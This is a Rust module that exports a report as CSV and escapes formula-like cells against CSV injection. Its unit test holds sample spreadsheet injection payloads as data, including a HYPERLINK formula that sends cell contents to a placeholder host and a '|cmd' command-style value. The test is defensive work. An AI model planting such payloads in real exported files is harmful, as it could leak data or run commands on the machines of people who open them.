//! The report as CSV: one line per cell of the plan, including the control, and one per path that
//! was not available. Full precision, no units in the cells, empty where a value is missing. New
//! columns are only added at the end.

use super::figures::registry::{cell_csv, request_csv};
use super::pivot::level;
use super::prose;
use zc_analysis::Estimates;
use zc_analysis::machine::is_emulated;
use zc_run::{Factor, Level, Run, Support, Value, escape};

/// The whole file, with its heading.
pub fn csv(run: &Run, estimates: &Estimates) -> String {
    text(lines(run, estimates))
}

/// The lines, the heading first, all with the same number of cells.
pub(super) fn lines(run: &Run, estimates: &Estimates) -> Vec<Vec<String>> {
    let header = &run.header;
    let columns = cell_csv();
    // The factors other than paths, in bytes, bytes per second and names: one column per factor at
    // the end.
    let factors: &[Factor] = if header.plan.factors.len() > 1 { &header.plan.factors } else { &[] };
    let mut head: Vec<String> = columns.iter().map(|(_, csv)| csv.name.to_owned()).collect();
    if !factors.is_empty() {
        head.extend(factors.iter().map(ToString::to_string));
        head.extend(["compared_with", "at_bytes_per_s"].map(str::to_owned));
    }
    let of_states = head.len();
    if !estimates.requests.is_empty() {
        head.extend(request_csv().map(|(_, csv)| csv.name.to_owned()));
    }
    let place = |name: &str| columns.iter().position(|(_, csv)| csv.name == name);
    let set = |line: &mut [String], name: &str, text: String| {
        if let Some(place) = place(name) {
            line[place] = text;
        }
    };
    let width = head.len();
    let mut lines = vec![head];
    for (number, cell) in estimates.cells.iter().enumerate() {
        let texts = columns.iter().map(|(entry, csv)| csv.text(entry, estimates, cell));
        let mut line: Vec<String> = texts.collect();
        if is_emulated(header) {
            set(&mut line, "status", "withheld".to_owned());
            set(&mut line, "comparison", "withheld".to_owned());
            set(&mut line, "reason", prose::why_withheld(run, estimates).join("; "));
        }
        if let (Some(planned), false) = (header.plan.cells.get(number), factors.is_empty()) {
            line.extend(factors.iter().map(|factor| raw(&level(header, planned, *factor))));
            line.push(cell.by.clone().unwrap_or_default());
            line.push(header.plan.fixed.at(&planned.levels).rate_bytes_per_s.to_string());
        }
        line.resize(of_states, String::new());
        if let Some(state) = estimates.requests.iter().find(|state| state.label == cell.label) {
            line.extend(
                request_csv().map(|(entry, csv)| csv.text(entry, estimates, state)),
            );
        }
        line.resize(width, String::new());
        lines.push(line);
    }
    for row in &header.unavailable {
        if let Support::No(no) = &row.support {
            let mut line = vec![String::new(); width];
            set(&mut line, "path", row.name.clone());
            set(&mut line, "status", no.kind.name().to_owned());
            set(&mut line, "reason", no.reason.clone());
            lines.push(line);
        }
    }
    lines
}

/// Lines of equal length as CSV. Control characters are escaped, because CSV is printed on
/// terminals too.
pub(super) fn text(lines: Vec<Vec<String>>) -> String {
    let mut out = csv::Writer::from_writer(Vec::new());
    for cells in lines {
        let cells = cells.iter().map(|cell| without_formula(escape(cell, usize::MAX)));
        out.write_record(cells)
            .expect("a Vec takes every byte, and every line is as long as the heading");
    }
    let bytes = out.into_inner().expect("a Vec takes every byte");
    String::from_utf8(bytes).expect("strings and commas are UTF-8")
}

/// A cell that no spreadsheet takes for a formula,
/// <https://owasp.org/www-community/attacks/CSV_Injection>: with an apostrophe before what would
/// begin one, unless it is a number. An apostrophe gets another, so that one can be taken off
/// again. Tabs and line breaks are escaped already.
fn without_formula(mut cell: String) -> String {
    const BEGIN: [char; 9] =
        ['=', '+', '-', '@', '\'', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
    if cell.starts_with(BEGIN) && cell.parse::<f64>().is_err() {
        cell.insert(0, '\'');
    }
    cell
}

/// A level, as a number if it is one.
pub(super) fn raw(level: &Level) -> String {
    match &level.value {
        Value::Bytes(bytes) => bytes.to_string(),
        Value::Rate(rate) => rate.to_string(),
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula_and_numbers_stay_numbers() {
        let cells = [
            "=HYPERLINK(\"http://x/\"&A1)",
            "+1+1",
            "-2+3|cmd",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\u{ff1d}1",
            "-",
            "-0.25",
            "-1e-9",
            "+5",
            "a=b",
            "read+send",
            "'=1",
        ];
        let line = text(vec![cells.map(str::to_owned).to_vec()]);
        let mut reader =
            ::csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
        let read: Vec<String> =
            reader.records().next().unwrap().unwrap().iter().map(str::to_owned).collect();
        assert_eq!(
            read,
            [
                "'=HYPERLINK(\"http://x/\"&A1)",
                "'+1+1",
                "'-2+3|cmd",
                "'@SUM(A1)",
                "\\t=1",
                "\\r=1",
                "'\u{ff1d}1",
                "'-",
                "-0.25",
                "-1e-9",
                "+5",
                "a=b",
                "read+send",
                "''=1",
            ]
        );
    }
}
